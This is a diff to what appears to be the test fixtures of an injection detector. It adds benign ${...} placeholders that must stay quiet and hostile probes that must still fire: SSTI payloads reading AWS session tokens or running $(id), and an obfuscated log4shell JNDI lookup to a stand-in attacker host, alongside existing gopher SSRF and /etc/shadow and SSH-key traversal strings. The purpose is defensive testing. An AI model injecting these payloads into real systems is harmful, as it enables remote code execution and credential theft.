@@ -32,6 +32,11 @@ QUIET = [
     ("ssrf", "REDIS_URL=redis://cache-01.example.com:6379/2"),
     ("ssrf", "Connect with postgres://report:pw@db.example.org:5432/sales?sslmode=require"),
     ("ssrf", "mongodb://atlas-shard-00.example.net:27017/app"),
+    # ssti: ${...} that no engine evaluates: shell and Compose defaults, CloudFormation pseudo
+    # parameters, Spring placeholders with a default
+    ("ssti", "environment:\n  REDIS_HOST: ${REDIS_HOST:-redis}\n  LOG_LEVEL: ${LOG_LEVEL:=info}"),
+    ("ssti", 'Value: !Sub "arn:${AWS::Partition}:s3:::logs-${AWS::Region}/*"'),
+    ("ssti", "spring.datasource.username=${DB_USER:app}"),
     # path_traversal: /bin and /sbin hold programs; a shell's path names one
     ("path_traversal", "#!/bin/sh\nexec gunicorn app:app"),
     ("path_traversal", "Login shell changed to /bin/zsh for user deploy"),
@@ -69,6 +74,12 @@ STILL_FIRES = [
     ("ssrf", "memcached://10.0.0.7:11211"),
     ("ssrf", "gopher://db.example.com:6379/_FLUSHALL"),
     ("ssrf", "dict://cache.example.com:11211/stats"),
+    ("ssti", "${env:AWS_SESSION_TOKEN}"),
+    ("ssti", "${sys:user.home}"),
+    ("ssti", "${7*7}"),
+    ("ssti", "${x:-$(id)}"),
+    ("ssti", "${session.getClass()}"),
+    ("log4shell", "${${x:-j}ndi:ldap://attacker.example/a}"),
     ("path_traversal", "/bin/../etc/shadow"),
     ("path_traversal", "file=/etc/passwd"),
     ("path_traversal", "/root/.ssh/id_rsa"),
